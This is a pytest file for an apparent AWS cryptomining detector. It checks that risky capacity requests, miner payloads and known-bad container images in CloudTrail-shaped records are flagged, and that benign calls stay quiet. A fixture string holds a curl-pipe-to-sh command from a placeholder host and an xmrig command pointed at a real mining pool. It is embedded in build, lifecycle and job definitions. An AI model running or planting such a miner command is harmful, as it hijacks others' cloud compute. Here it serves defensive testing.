"""Compute beyond EC2: SageMaker, WorkSpaces, EKS, Batch, EMR, CodeBuild and Lightsail, on records shaped like
their CloudTrail entries (the request fields of each API as CloudTrail logs them, in the service's own casing),
with the benign shapes of the same calls staying quiet."""

from __future__ import annotations

import base64
import json

import pytest

from cryptoguard import patterns
from cryptoguard.indicators import known_bad_image
from cryptoguard.records import normalise
from cryptoguard.rules import Context, Severity, evaluate
from cryptoguard.rules.services import SERVICES
from cryptoguard.settings import Settings
from tests.unit.test_real_trails import USER, record

SETTINGS = Settings(allowed_regions=("us-east-1",))
MINER = "#!/bin/bash\ncurl -s https://example.invalid/x | sh; ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u x\n"


def found(rec: dict, ctx: Context | None = None) -> dict[str, list]:
    ctx = ctx or Context(SETTINGS)
    out: dict[str, list] = {}
    for f in evaluate(normalise(rec), ctx):
        out.setdefault(f.rule.id, []).append(f)
    return out


def ct(source: str, name: str, params: dict, **fields) -> dict:
    return record(name, f"{source}.amazonaws.com", USER, params, **fields)


ATTACKS = [
    # SageMaker: a notebook on a p3.16xlarge, a training job of 8 p4d, a HyperPod cluster of trn1, an endpoint config.
    (ct("sagemaker", "CreateNotebookInstance", {"notebookInstanceName": "nb", "instanceType": "ml.p3.16xlarge",
        "roleArn": "arn:aws:iam::123456789012:role/sm"}), "CG-SAGEMAKER-001", ["accelerated"]),
    (ct("sagemaker", "CreateTrainingJob", {"trainingJobName": "t1", "resourceConfig": {"instanceType":
        "ml.p4d.24xlarge", "instanceCount": 8, "volumeSizeInGB": 50}, "algorithmSpecification": {"trainingImage":
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/train:1", "trainingInputMode": "File"}}), "CG-SAGEMAKER-001",
        ["accelerated"]),
    (ct("sagemaker", "CreateCluster", {"clusterName": "hp", "instanceGroups": [{"instanceGroupName": "workers",
        "instanceType": "ml.trn1.32xlarge", "instanceCount": 4}]}), "CG-SAGEMAKER-001", ["accelerated"]),
    (ct("sagemaker", "CreateEndpointConfig", {"endpointConfigName": "ep", "productionVariants": [{"variantName":
        "v", "modelName": "m", "initialInstanceCount": 40, "instanceType": "ml.c5.xlarge"}]}), "CG-SAGEMAKER-001",
        ["instances in one request"]),
    # WorkSpaces: GPU compute type in the request; a GPU bundle; the PascalCase shape of the same request.
    (ct("workspaces", "CreateWorkspaces", {"workspaces": [{"directoryId": "d-906732325d", "userName": "u1",
        "bundleId": "wsb-8vbljg4r6", "workspaceProperties": {"runningMode": "ALWAYS_ON", "computeTypeName":
        "GRAPHICS_G4DN"}}]}), "CG-WORKSPACES-001", ["accelerated"]),
    (ct("workspaces", "CreateWorkspaceBundle", {"bundleName": "gpu", "bundleDescription": "x", "imageId":
        "wsi-0123456789", "computeType": {"name": "GRAPHICSPRO"}, "userStorage": {"capacity": "50"}}),
        "CG-WORKSPACES-001", ["accelerated"]),
    (ct("workspaces", "CreateWorkspaces", {"Workspaces": [{"DirectoryId": "d-1", "UserName": f"u{i}", "BundleId":
        "wsb-1"} for i in range(25)]}), "CG-WORKSPACES-001", ["instances in one request"]),
    # EKS: GPU AMI type; g5 types with maxSize 500.
    (ct("eks", "CreateNodegroup", {"name": "prod", "nodegroupName": "gpu", "amiType": "AL2_x86_64_GPU",
        "scalingConfig": {"minSize": 1, "maxSize": 3, "desiredSize": 1}, "instanceTypes": ["m5.large"]}),
        "CG-EKS-001", ["accelerated"]),
    (ct("eks", "UpdateNodegroupConfig", {"name": "prod", "nodegroupName": "workers", "scalingConfig":
        {"minSize": 1, "maxSize": 500, "desiredSize": 400}}), "CG-EKS-001",
        ["instances in one request", "maximum size"]),
    # Batch: p3 family; 10,000 vCPUs of c5.
    (ct("batch", "CreateComputeEnvironment", {"computeEnvironmentName": "ce", "type": "MANAGED", "computeResources":
        {"type": "SPOT", "minvCpus": 0, "maxvCpus": 256, "instanceTypes": ["p3"], "subnets": ["subnet-1"]}}),
        "CG-BATCH-001", ["accelerated"]),
    (ct("batch", "UpdateComputeEnvironment", {"computeEnvironment": "ce", "computeResources": {"maxvCpus": 10000}}),
        "CG-BATCH-001", ["maximum size"]),
    # EMR: a core group of 50 g4dn; a fleet of 200 spot units.
    (ct("elasticmapreduce", "RunJobFlow", {"name": "etl", "releaseLabel": "emr-7.1.0", "instances": {
        "instanceGroups": [{"instanceRole": "MASTER", "instanceType": "m5.xlarge", "instanceCount": 1},
                           {"instanceRole": "CORE", "instanceType": "g4dn.2xlarge", "instanceCount": 50}]}}),
        "CG-EMR-001", ["accelerated", "instances in one request"]),
    (ct("elasticmapreduce", "AddInstanceFleet", {"clusterId": "j-1", "instanceFleet": {"instanceFleetType": "TASK",
        "targetSpotCapacity": 200, "instanceTypeConfigs": [{"instanceType": "c5.4xlarge"}]}}), "CG-EMR-001",
        ["instances in one request"]),
    # CodeBuild: a GPU project; the largest compute on a build.
    (ct("codebuild", "CreateProject", {"name": "p", "source": {"type": "NO_SOURCE", "buildspec": "version: 0.2"},
        "environment": {"type": "LINUX_GPU_CONTAINER", "image": "aws/codebuild/standard:7.0", "computeType":
        "BUILD_GENERAL1_LARGE"}}), "CG-CODEBUILD-001", ["accelerated"]),
    (ct("codebuild", "StartBuild", {"projectName": "p", "computeTypeOverride": "BUILD_GENERAL1_2XLARGE"}),
        "CG-CODEBUILD-001", ["largest compute"]),
    # Lightsail: 30 instances in one call.
    (ct("lightsail", "CreateInstances", {"instanceNames": [f"node-{i}" for i in range(30)], "availabilityZone":
        "us-east-1a", "blueprintId": "ubuntu_22_04", "bundleId": "nano_3_0"}), "CG-LIGHTSAIL-001",
        ["instances in one request"]),
]  # fmt: skip


@pytest.mark.parametrize(("rec", "rule", "reasons"), ATTACKS, ids=lambda x: x if isinstance(x, str) else None)
def test_mining_capacity_on_each_service_is_found(rec, rule, reasons):
    findings = found(rec)[rule]
    assert [f.details["reasons"] for f in findings] == [reasons]
    assert findings[0].severity >= Severity.MEDIUM and findings[0].details["resource"]


BENIGN = [
    ct("sagemaker", "CreateNotebookInstance", {"notebookInstanceName": "ds", "instanceType": "ml.t3.medium"}),
    ct("sagemaker", "CreateTrainingJob", {"trainingJobName": "t", "resourceConfig": {"instanceType": "ml.m5.xlarge",
       "instanceCount": 2}}),
    ct("workspaces", "CreateWorkspaces", {"workspaces": [{"directoryId": "d-1", "userName": "hanako", "bundleId":
       "wsb-1", "workspaceProperties": {"computeTypeName": "STANDARD"}}]}),
    ct("eks", "CreateNodegroup", {"name": "prod", "nodegroupName": "web", "amiType": "AL2023_x86_64_STANDARD",
       "instanceTypes": ["m5.large"], "scalingConfig": {"minSize": 2, "maxSize": 10, "desiredSize": 2}}),
    ct("batch", "CreateComputeEnvironment", {"computeEnvironmentName": "etl", "type": "MANAGED", "computeResources":
       {"type": "EC2", "maxvCpus": 256, "instanceTypes": ["optimal"]}}),
    ct("elasticmapreduce", "RunJobFlow", {"name": "nightly", "instances": {"instanceGroups": [{"instanceType":
       "m5.xlarge", "instanceCount": 1}, {"instanceType": "r5.2xlarge", "instanceCount": 4}]}}),
    ct("codebuild", "CreateProject", {"name": "api", "source": {"type": "GITHUB", "buildspec": "version: 0.2\n"
       "phases:\n  build:\n    commands:\n      - make test\n"}, "environment": {"type": "LINUX_CONTAINER",
       "computeType": "BUILD_GENERAL1_SMALL", "image": "aws/codebuild/standard:7.0"}}),
    ct("lightsail", "CreateInstances", {"instanceNames": ["blog"], "blueprintId": "wordpress", "bundleId": "micro"}),
]  # fmt: skip


def test_ordinary_use_of_the_same_services_raises_nothing():
    ctx = Context(SETTINGS)
    assert [(r["eventName"], sorted(found(r, ctx))) for r in BENIGN if found(r, ctx)] == []


def test_allowed_families_and_service_types_are_settings():
    notebook = ATTACKS[0][0]
    assert "CG-SAGEMAKER-001" not in found(notebook, Context(Settings(allowed_instance_families=("p3",))))
    workspace = ATTACKS[4][0]
    assert "CG-WORKSPACES-001" not in found(workspace, Context(Settings(accelerated_compute_types=("GRAPHICSPRO*",))))
    batch = ATTACKS[10][0]
    assert "CG-BATCH-001" not in found(batch, Context(Settings(max_batch_vcpus=20000)))


def test_many_small_requests_add_up_to_a_window():
    ctx = Context(Settings(max_instances_per_window=50))
    jobs = [
        ct(
            "sagemaker",
            "CreateTrainingJob",
            {"trainingJobName": f"j{i}", "resourceConfig": {"instanceType": "ml.c5.4xlarge", "instanceCount": 10}},
            time=f"2024-05-02T10:0{i}:00Z",
            event_id=f"job-{i}",
        )
        for i in range(5)
    ]
    results = [found(j, ctx).get("CG-SAGEMAKER-001", []) for j in jobs]
    assert [bool(r) for r in results] == [False, False, False, False, True]
    assert results[-1][0].details["instances_in_window"] == 50 and results[-1][0].subject == "window"


LIFECYCLE = base64.b64encode(MINER.encode()).decode()
PAYLOADS = [
    ct("codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "version: 0.2\nphases:\n  build:\n"
       "    commands:\n      - " + MINER.splitlines()[1]}),
    ct("codebuild", "CreateProject", {"name": "p", "source": {"type": "NO_SOURCE", "buildspec": MINER},
       "environment": {"type": "LINUX_CONTAINER", "computeType": "BUILD_GENERAL1_SMALL", "image": "x"}}),
    ct("sagemaker", "CreateNotebookInstanceLifecycleConfig", {"notebookInstanceLifecycleConfigName": "lc",
       "onStart": [{"content": LIFECYCLE}]}),
    ct("sagemaker", "CreateProcessingJob", {"processingJobName": "pj", "processingResources": {"clusterConfig":
       {"instanceCount": 1, "instanceType": "ml.m5.large"}}, "appSpecification": {"imageUri": "python:3.12",
       "containerEntrypoint": ["sh", "-c", MINER]}}),
    ct("batch", "RegisterJobDefinition", {"jobDefinitionName": "jd", "type": "container", "containerProperties":
       {"image": "docker.io/yenik65958/secret:user", "command": ["sh", "run.sh"]}}),
]  # fmt: skip


@pytest.mark.parametrize("rec", PAYLOADS, ids=lambda r: r["eventName"])
def test_miners_in_builds_jobs_and_lifecycle_scripts_are_critical(rec):
    finding = found(rec)["CG-PAYLOAD-002"][0]
    assert finding.severity is Severity.CRITICAL
    assert finding.details["indicators"] or finding.details["images"]


def test_failed_calls_are_not_capacity():
    denied = dict(ATTACKS[0][0], errorCode="AccessDeniedException")
    assert "CG-SAGEMAKER-001" not in found(denied)


def test_the_pattern_delivers_every_call_the_rules_read_and_nothing_else():
    """One gate: the managed_compute pattern names exactly the (service, call) pairs the rules read."""
    pattern = patterns.named("managed_compute").pattern
    assert sorted(pattern["detail"]["eventSource"]) == sorted(SERVICES)
    wanted = {n for s in SERVICES.values() for n in s.events | s.payload_events}
    assert set(pattern["detail"]["eventName"]) == wanted
    for rec, _, _ in ATTACKS:
        assert patterns.matches(pattern, normalise(rec).to_eventbridge()), rec["eventName"]
    assert len(json.dumps(pattern)) < 4096


@pytest.mark.parametrize(
    ("image", "bad"),
    [
        ("docker.io/yenik65958/secret:user", True),
        ("registry.example:5000/yenik65958/secret:user", True),  # a port is not a tag
        ("yenik65958/secret@sha256:0123abcd", True),
        ("yenik65958/secret", True),
        ("python:3.12", False),
        ("registry.example:5000/team/api", False),
    ],
)
def test_known_bad_images_are_recognised_whatever_the_registry_tag_or_digest(image, bad):
    """One reading of image names for ECS task definitions and managed jobs alike."""
    assert known_bad_image(image, Settings().known_bad_images) is bad
